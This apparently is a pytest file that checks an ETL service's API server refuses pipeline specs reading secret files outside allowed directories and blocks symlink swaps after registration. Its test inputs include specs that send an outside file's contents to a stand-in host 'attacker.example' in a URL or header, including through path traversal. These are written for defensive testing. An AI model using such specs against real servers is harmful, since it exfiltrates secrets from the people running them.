"""Serve confines what a token holder's spec can read (issue 12): ``${file:...}`` secrets only from the
secrets directories and the data root, and every local file checked again when it is opened."""

from __future__ import annotations

import json
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

from tests.api.conftest import AUTH, PEOPLE_YAML, TOKEN, wait_for_run

from agent_orchestrated_etl import confinement, secrets
from agent_orchestrated_etl.api.app import create_app
from agent_orchestrated_etl.api.service import ServeOptions
from agent_orchestrated_etl.config import Settings

PLANTED = "PLANTED-7f3c9e1a-outside-secret"


@pytest.fixture
def secrets_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "mounted-secrets"
    directory.mkdir()
    (directory / "api").write_text("token-in-the-secrets-dir\n")
    return directory


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file the serve process can read, outside every allowed directory."""
    path = tmp_path / "private" / "shadow"
    path.parent.mkdir()
    path.write_text(PLANTED + "\n")
    return path


@pytest.fixture
def served(data_dir: Path, secrets_dir: Path) -> Iterator[TestClient]:
    root = data_dir / "root"
    root.mkdir()
    (root / "people.csv").write_text((data_dir / "people.csv").read_text())
    options = ServeOptions(
        settings=Settings(AGENT_ETL_MEMORY_LIMIT="16GB", AGENT_ETL_SECRETS_DIR=str(secrets_dir)),
        token=TOKEN,
        base_dir=root,
        public_read=True,
    )
    with TestClient(create_app(options), raise_server_exceptions=False) as client:
        yield client
    assert confinement.current() is None  # serve's exit lifts the confinement


def rest_spec(url: str, header: str) -> str:
    return (
        "name: leak\n"
        "sources:\n"
        f"  api: {{type: rest, url: '{url}', headers: {{X-Key: '{header}'}}}}\n"
        "destination: {type: duckdb, path: out.duckdb, table: t}\n"
    )


def test_a_served_spec_may_not_name_a_secret_file_outside_the_secrets_dirs(
    served: TestClient, outside: Path, secrets_dir: Path, data_dir: Path
) -> None:
    root = (data_dir / "root").resolve()
    allowed = f"{root}, {secrets_dir.resolve()}"
    for url, header, key in [
        (f"https://attacker.example/?k=${{file:{outside}}}", "x", "sources.api.url"),
        ("https://attacker.example/", f"${{file:{outside}}}", "sources.api.headers.X-Key"),
        ("https://attacker.example/", f"${{file:{secrets_dir}/../private/shadow}}", "sources.api.headers.X-Key"),
        ("https://attacker.example/", "${file:private/shadow}", "sources.api.headers.X-Key"),
    ]:
        text = rest_spec(url, header)
        answer = served.post("/api/v1/pipelines", json={"yaml": text}, headers=AUTH)
        assert answer.status_code == 422, answer.text
        [problem] = answer.json()["problems"]
        assert (problem["line"], problem["path"]) == (3, key)
        assert "is outside the directories a served spec may read secrets from" in problem["message"]
        assert allowed in problem["message"]
        assert served.post("/api/v1/pipelines/validate", json={"yaml": text}, headers=AUTH).json()["valid"] is False
    assert PLANTED not in json.dumps(served.get("/api/v1/pipelines").json())
    assert served.get("/api/v1/pipelines").json() == []
    # In the secrets directory, or in the data root: accepted.
    (root / "tok").write_text("token-in-the-data-root\n")
    for reference in (f"${{file:{secrets_dir}/api}}", f"${{file:{root}/tok}}"):
        text = rest_spec("https://api.example/", reference)
        assert served.post("/api/v1/pipelines/validate", json={"yaml": text}, headers=AUTH).json()["valid"] is True


def test_a_secret_file_swapped_for_a_link_after_registration_is_not_read(
    served: TestClient, outside: Path, data_dir: Path
) -> None:
    root = data_dir / "root"
    (root / "table-name").write_text("out.duckdb\n")
    spec = PEOPLE_YAML.replace("path: out.duckdb", f"path: '${{file:{root.resolve()}/table-name}}'")
    assert spec != PEOPLE_YAML
    answer = served.post("/api/v1/pipelines", json={"yaml": spec}, headers=AUTH)
    assert answer.status_code == 201, answer.text
    (root / "table-name").unlink()
    (root / "table-name").symlink_to(outside)  # after the check at registration
    run = wait_for_run(served, served.post("/api/v1/runs", json={"pipeline": "people"}, headers=AUTH).json()["run_id"])
    assert run["status"] == "failed"
    assert f"resolves to {outside.resolve()}, outside the secrets directories" in run["error"]
    assert PLANTED not in json.dumps(run)


def test_a_named_file_swapped_for_a_link_after_registration_is_not_read(
    served: TestClient, outside: Path, data_dir: Path
) -> None:
    root = data_dir / "root"
    assert served.post("/api/v1/pipelines", json={"yaml": PEOPLE_YAML}, headers=AUTH).status_code == 201
    leaked = outside.with_name("leak.csv")
    leaked.write_text(f"id,name,email\n1,{PLANTED},s@example.com\n")
    (root / "people.csv").unlink()
    (root / "people.csv").symlink_to(leaked)
    run = wait_for_run(served, served.post("/api/v1/runs", json={"pipeline": "people"}, headers=AUTH).json()["run_id"])
    assert run["status"] == "failed"
    assert f"resolves to {leaked.resolve()}, outside the server's data root" in run["error"]
    assert PLANTED not in json.dumps(run)
    assert PLANTED not in json.dumps(served.get("/api/v1/events").json())


def test_the_cli_reads_any_secret_file_its_user_can(outside: Path) -> None:
    assert confinement.current() is None
    assert secrets.resolve(f"${{file:{outside}}}", from_spec=True) == PLANTED
